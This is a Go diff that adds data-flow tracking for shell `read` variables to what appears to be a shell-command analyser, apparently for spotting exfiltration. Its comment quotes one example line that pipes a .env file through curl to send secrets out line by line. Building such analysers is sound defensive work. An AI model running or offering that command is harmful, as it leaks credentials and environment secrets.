@@ -883,6 +883,55 @@ func (r *resolver) link(id, first int, pipes [][2]span, stmts []stmtSpan, sets [
 	if len(sets) > 0 {
 		r.linkVars(own, sets, bounds)
 	}
+	r.linkReads(own)
+}
+
+// linkReads records the data a variable set by read carries: a command
+// that uses it reads what read read (cat .env | while read l; do curl
+// "…?d=$l"; done sends .env line by line).
+func (r *resolver) linkReads(own []int) {
+	for n, i := range own {
+		c := &r.out[i]
+		if len(c.Inputs) == 0 || len(c.Args) < 2 || c.Dynamic[0] || c.Args[0] != "read" {
+			continue
+		}
+		var names [4]string
+		k := 0
+		for j := 1; j < len(c.Args) && k < len(names); j++ {
+			a := c.Args[j]
+			switch {
+			case c.Dynamic[j]:
+			case a == "-p" || a == "-d" || a == "-n" || a == "-N" || a == "-t" || a == "-u" || a == "-i":
+				j++ // the option's value
+			case a == "-a" && j+1 < len(c.Args):
+				names[k], k = c.Args[j+1], k+1 // the array it fills
+				j++
+			case strings.HasPrefix(a, "-"):
+			default:
+				names[k], k = a, k+1
+			}
+		}
+		if k == 0 {
+			names[0], k = "REPLY", 1
+		}
+		for _, u := range own[n+1:] {
+			d := &r.out[u]
+			uses := false
+			for j, a := range d.Args {
+				if d.Dynamic[j] && strings.IndexByte(a, '$') >= 0 {
+					eachVarRef(a, func(name string) { uses = uses || slices.Contains(names[:k], name) })
+				}
+			}
+			if !uses {
+				continue
+			}
+			for _, in := range c.Inputs {
+				if in != u && len(d.Inputs) < 4*maxFeeds && !slices.Contains(d.Inputs, in) {
+					d.Inputs = append(d.Inputs, in)
+				}
+			}
+		}
+	}
 }
 
 // ownFrom returns the first index k of own whose command is at an offset
